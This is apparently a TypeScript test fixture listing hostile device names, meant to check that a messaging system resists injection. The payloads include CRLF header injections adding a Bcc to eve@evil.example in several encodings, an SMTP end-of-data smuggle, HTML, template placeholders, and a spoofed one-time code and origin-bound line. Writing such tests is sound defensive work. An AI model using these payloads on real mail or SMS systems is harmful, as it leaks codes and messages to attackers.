/** What an outsider may name a device, to get something of their own into the message. Source: message-rules.md section 10. */
const deviceNames: Readonly<Record<string, string>> = {
  "a false code": "Your code is 999999",
  "a placeholder": "{{otp}} {{panSuffix}}",
  HTML: "<b>Nadia</b><img src=x>",
  "a header injection": "x\r\nBcc: eve@evil.example",
  "a header injection in quoted-printable": "x=0D=0ABcc: eve@evil.example",
  "a header injection in a URL's letters": "x%0d%0aBcc: eve@evil.example",
  "a header injection in an encoded word": "=?utf-8?Q?x=0D=0ABcc=3A_eve=40evil.example?=",
  "a line end alone": "x\nBcc: eve@evil.example",
  "the end of a mail": "x\r\n.\r\nRCPT TO:<eve@evil.example>",
  "an address": '"eve@evil.example" <eve@evil.example>',
  "an origin-bound line": "\n@evil.example #999999",
};

/** Throws for a name that no feature knows. */
export function deviceNamed(name: string): string {
  const deviceName = deviceNames[name];
  if (deviceName === undefined)
    throw new Error(`no device is called "${name}"; known: ${Object.keys(deviceNames).join("; ")}`);
  return deviceName;
}
